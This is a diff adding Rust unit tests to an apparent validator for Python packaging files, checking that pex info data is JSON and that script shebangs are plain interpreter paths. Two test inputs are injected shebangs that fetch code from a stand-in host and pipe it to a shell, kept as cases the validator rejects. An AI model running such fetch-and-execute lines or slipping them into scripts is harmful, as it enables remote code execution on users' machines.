@@ -711,6 +711,27 @@ mod tests {
     }
 
     #[test]
+    fn pex_s_data_about_a_wheel_must_be_json() {
+        check_pex_info_file(br#"{"filename": "six-1.whl"}"#, "info").unwrap();
+        assert!(check_pex_info_file(b"import os", "info").is_err());
+    }
+
+    #[test]
+    fn a_script_s_shebang_is_python_or_a_plain_path() {
+        let template = parse_template("{shebang}\nimport importlib");
+        for (shebang, ok) in [
+            ("#!python", true),
+            ("#!/usr/bin/env python3.11", true),
+            ("#!/bin/sh;curl evil|sh", false),
+            ("#!/bin/$(curl evil)", false),
+            ("#!sh", false),
+        ] {
+            let script = format!("{shebang}\nimport importlib");
+            assert_eq!(matches(&template, &script, script_value), ok, "{shebang}");
+        }
+    }
+
+    #[test]
     fn only_json_in_a_pex_info_folder_is_pex_s_data() {
         assert!(is_pex_info("six-1.15.0.pex-info/original-whl-info.json"));
         for other in [
